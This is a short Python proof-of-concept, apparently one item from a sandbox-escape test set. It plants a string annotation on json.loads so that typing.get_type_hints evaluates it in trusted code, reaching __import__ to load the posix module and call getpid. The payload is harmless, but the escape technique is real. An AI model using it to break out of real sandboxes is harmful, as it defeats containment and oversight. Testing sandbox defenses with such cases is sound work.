# technique: annotations of a trusted function, which get_type_hints evaluates
# goal: import
# source: own analysis: eval in trusted code
import json
import typing
json.loads.__annotations__ = {'x': '__builtins__["__import__"]("posix").getpid'}
print('ESCAPED pid=%d' % typing.get_type_hints(json.loads)['x']())
